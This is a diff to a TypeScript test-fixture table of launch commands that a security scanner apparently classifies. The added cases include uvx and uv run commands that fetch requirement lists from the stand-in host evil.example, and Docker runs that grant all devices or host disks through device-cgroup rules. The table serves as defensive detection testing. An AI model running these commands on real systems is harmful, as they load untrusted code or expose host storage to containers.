@@ -261,6 +261,20 @@ export const LAUNCHES: readonly Technique[] = [
     'docs.astral.sh/uv; pipx.pypa.io; packaging.python.org, PEP 503 and 508',
     [
       ['uvx', run('uvx', 'mcp-server-sqlite'), VULNERABLE],
+      ...['--with-requirements', '--overrides', '-c'].map(
+        (option) =>
+          [
+            `uvx with a list that is fetched: ${option}`,
+            run('uvx', option, 'https://evil.example/x.txt', 'mcp-notes==1.4.2'),
+            'mutable-source@it',
+          ] as const,
+      ),
+      [
+        'uv run with a list that is fetched',
+        run('uv', 'run', '--with-requirements', 'https://evil.example/x.txt', 'notes.py'),
+        'mutable-source@it',
+      ],
+      ['uvx with a list of the project', run('uvx', '-c', 'x.txt', 'mcp-notes==1.4.2'), '-mutable-source'],
       ['uvx --from', run('uvx', '--from', 'mcp-server-sqlite', 'notes'), VULNERABLE],
       ['uvx --from=', run('uvx', '--from=mcp-server-sqlite', 'notes'), VULNERABLE],
       ['uv tool run', run('uv', 'tool', 'run', 'mcp-server-sqlite'), VULNERABLE],
@@ -366,6 +380,9 @@ export const LAUNCHES: readonly Technique[] = [
       ['--network name=host', docker('--network', 'name=host'), 'container-host-namespace@it'],
       ['--pid=host', docker('--pid=host'), 'container-host-namespace@it'],
       ['--device', docker('--device=/dev/sda'), 'container-host-namespace@it'],
+      ['all devices by a rule', docker('--device-cgroup-rule', 'a *:* rwm'), 'container-host-namespace@it'],
+      ['disks by a rule', docker('--device-cgroup-rule=b 8:* rwm'), 'container-host-namespace@it'],
+      ['a camera by a rule', docker('--device-cgroup-rule', 'c 81:* rmw'), '-container-host-namespace'],
       [
         'docker container run',
         run('docker', 'container', 'run', '-i', '--privileged', 'example/notes:1.4.2'),
